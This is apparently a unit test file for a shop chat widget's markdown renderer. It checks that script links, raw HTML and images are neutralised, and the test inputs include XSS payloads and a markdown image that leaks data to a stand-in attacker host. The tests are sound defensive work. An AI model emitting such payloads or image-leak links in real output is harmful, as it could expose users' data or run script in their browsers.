// Unit tests of the widget's pure parts: node --test widget/test
"use strict";
const test = require("node:test");
const assert = require("node:assert/strict");
const { parseMarkdown, parseInline, backoffDelay } = require("../widget.js");

test("paragraphs, line breaks and lists", () => {
  const blocks = parseMarkdown("Hello\nworld\n\n- one\n- two\n1. first\n2. second");
  assert.deepEqual(blocks.map((b) => b.t), ["p", "ul", "ol"]);
  assert.equal(blocks[0].lines.length, 2);
  assert.equal(blocks[1].items.length, 2);
});

test("bold, italics, code and safe links", () => {
  const nodes = parseInline("**Free** returns, *30 days*, `CODE10`, [policy](https://shop.example/returns)");
  assert.deepEqual(nodes.map((n) => n.t), ["b", "text", "i", "text", "code", "text", "a"]);
  assert.equal(nodes[6].href, "https://shop.example/returns");
  assert.equal(parseInline("[mail](mailto:care@shop.example)")[0].t, "a");
});

test("javascript: and data: links become plain text", () => {
  for (const url of ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x"]) {
    const nodes = parseInline(`[click me](${url})`);
    assert.deepEqual(nodes, [{ t: "text", v: "click me" }], url);
  }
});

test("images never render: only their alt text remains", () => {
  const nodes = parseInline("see ![secret](https://evil.example/leak?d=123) here");
  assert.ok(nodes.every((n) => n.t === "text"));
  assert.equal(nodes.map((n) => n.v).join(""), "see secret here");
});

test("raw HTML stays text", () => {
  const blocks = parseMarkdown('<img src=x onerror="alert(1)"> <script>x</script>');
  const text = blocks[0].lines[0].map((n) => n.v).join("");
  assert.equal(text, '<img src=x onerror="alert(1)"> <script>x</script>');
});

test("backoff grows exponentially, is capped, and jitters within half to full", () => {
  assert.equal(backoffDelay(0, 0), 250);
  assert.equal(backoffDelay(0, 1), 500);
  assert.equal(backoffDelay(3, 1), 4000);
  assert.equal(backoffDelay(10, 1), 15000);
  assert.equal(backoffDelay(10, 0), 7500);
  for (let i = 0; i < 100; i++) {
    const d = backoffDelay(2);
    assert.ok(d >= 1000 && d <= 2000, String(d));
  }
});

test("underscores inside words are not emphasis", () => {
  assert.deepEqual(parseInline("window.__xss=1 and snake_case_name"),
    [{ t: "text", v: "window.__xss=1 and snake_case_name" }]);
  assert.equal(parseInline("an _emphasised_ word")[1].t, "i");
});
